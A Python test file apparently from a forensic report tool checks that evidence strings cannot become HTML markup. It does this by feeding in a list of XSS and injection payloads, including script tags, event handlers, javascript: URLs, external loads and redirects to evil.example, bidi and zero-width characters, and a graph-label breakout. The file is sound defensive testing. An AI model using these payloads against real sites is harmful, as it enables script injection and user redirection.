"""Evidence is attacker-controlled: no payload may survive into the report as markup.

Each payload is put into every evidence-derived string of a hand-built case (file names, tool
names, targets, statements, details, classification, timeline, IOCs, AI-BOM, runbook, graph
labels, drift labels) and into the evidence files themselves (appendix excerpts). The rendered
HTML is then parsed the way a browser tokenizer would see it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from report_builders import write_case
from tracehound.report.escaping import dot_label, visible, xml_text
from tracehound.report.html import render_html

PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(document.domain)",
    "<svg onload=alert(1)><circle r=5/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=x>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title></style></textarea><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\u202eexe.txt\u202c <b>bidi</b>",
    "zero\u200bwidth\ufeff<script>",
    "nul\x00byte<script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example><input name=x></form>",
    "{{ 7*7 }}{% raw %}",
    "<foreignObject><body onload=alert(1)></foreignObject>",
)
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "nav", "ol", "ul", "li", "a",
    "section", "h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "colgroup",
    "col", "code", "pre", "blockquote", "span", "strong", "br", "div", "svg", "line", "text",
    "circle", "rect", "path", "polygon", "g",
}
OUR_SVG_CLASSES = ("th-chart th-timeline", "th-chart th-graph", "th-chart th-bars")


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []
        self.decls: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.decls.append(decl)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def assert_no_markup_survived(html: str) -> None:
    doc = parse(html)
    assert doc.comments == []
    assert doc.decls == ["DOCTYPE html"]
    tags = [tag for tag, _ in doc.tags]
    assert "script" not in tags
    assert set(tags) <= ALLOWED_TAGS, set(tags) - ALLOWED_TAGS
    for tag, attrs in doc.tags:
        names = {name for name, _ in attrs}
        assert not any(name.startswith("on") for name in names), (tag, attrs)
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
            if name in ("href", "src", "xlink:href", "action"):
                assert name == "href" and value.startswith("#"), (tag, attrs)
            if name == "style":
                assert "expression" not in value and "url(" not in value, (tag, attrs)
        if tag == "svg":
            assert dict(attrs).get("class") in OUR_SVG_CLASSES, attrs
        if tag == "meta":
            assert dict(attrs).get("http-equiv") in (None, "Content-Security-Policy"), attrs
    head = html.split("</head>", 1)[0]
    assert html.count("<style>") == 1 and head.count("<title>") == 1


def test_the_checker_catches_each_kind_of_injection():
    bad = ("<!DOCTYPE html><p><script>x</script></p>", '<!DOCTYPE html><p onclick="x">',
           '<!DOCTYPE html><a href="javascript:x">', "<!DOCTYPE html><iframe>",
           '<!DOCTYPE html><svg onload="x">', "<!DOCTYPE html><!-- x -->")
    for html in bad:
        with pytest.raises(AssertionError):
            assert_no_markup_survived(html + "<style></style><title></title>")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_never_becomes_markup(tmp_path, payload):
    case = write_case(tmp_path / "ev", text=payload)
    html = render_html(case, reproducible=True)
    assert_no_markup_survived(html)
    assert "<script" not in html.lower()
    assert "\u202e" not in html and "\u200b" not in html and "\x00" not in html
    if "{{" in payload:
        assert "{{ 7*7 }}" in html


def test_the_whole_corpus_at_once_in_file_names_and_content(tmp_path):
    case = write_case(tmp_path / "ev", text="".join(PAYLOADS))
    html = render_html(case, reproducible=True)
    assert_no_markup_survived(html)
    assert "&lt;script&gt;" in html          # shown, as text


def test_hiding_characters_are_made_visible():
    assert visible("a\u202eb\u200bc\x00d") == "a<U+202E>b<U+200B>cd"
    assert xml_text("<U+202E>") == "&lt;U+202E&gt;"
    assert xml_text("\u202e<x>") == "&lt;U+202E&gt;&lt;x&gt;"


def test_dot_labels_cannot_break_out_of_their_quotes():
    label = dot_label('a"] ; n9 [label="x\\N\\G\nnext')
    assert '"' not in label.replace('\\"', "")
    assert "\n" not in label
    assert label.count("\\\\") == 2
